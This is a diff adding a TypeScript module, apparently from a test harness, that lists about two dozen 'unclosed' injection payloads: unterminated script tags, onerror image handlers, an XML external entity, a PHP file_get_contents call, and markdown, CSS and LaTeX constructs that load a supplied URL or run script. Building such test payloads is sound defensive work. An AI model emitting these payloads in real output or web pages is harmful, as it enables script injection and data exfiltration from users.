@@ -1,0 +1,30 @@
+import type { AttackKind } from '../bait.ts';
+
+/** What is never closed and swallows all that follows: each is the end of its answer. */
+export const unclosed: AttackKind = ({ url, script }) => ({
+	'a script never closed': `<script>${script}`,
+	'a script’s tag never closed': `<script src="${url}"`,
+	'a script half written': '<scr',
+	'a comment never closed': `<!-- ${script}`,
+	'a comment closed at once': `<!--><img src=x onerror=${script}>`,
+	'CDATA never closed': `<![CDATA[ <img src=${url}>`,
+	'a declaration never closed': `<!DOCTYPE html [ <!ENTITY x SYSTEM "${url}"> `,
+	'an instruction never closed': `<?php echo file_get_contents("${url}")`,
+	'a style never closed': `<style>@import "${url}"`,
+	'a text area never closed': `<textarea><img src=${url}>`,
+	'a text without an end': `<plaintext><xmp><img src=${url}>`,
+	'a template never closed': `<template><img src=${url}>`,
+	'an attribute never closed': `<img src="${url}?`,
+	'an image never closed': `![x](${url}`,
+	'an image’s title never closed': `![x](${url} "title`,
+	'a link never closed': `[x](javascript:${script}`,
+	'a link in angle brackets never closed': `[x](<${url}`,
+	'a definition never closed': `[x]\n\n[x]: <${url}`,
+	'a fence never closed': `\`\`\`html\n<script>${script}</script>`,
+	'a fence never closed, in a quotation': `> \`\`\`\n> <img src=${url}>`,
+	'code never closed': `\`\`<img src=${url}>`,
+	'a formula never closed': `$$\\href{${url}}{x`,
+	'a formula in brackets never closed': `\\[\\includegraphics{${url}}`,
+	'emphasis never closed': `***<b>~~_[![x](${url}`,
+	'a table never closed': `| a | ![x](${url}) |\n|---|-`,
+});
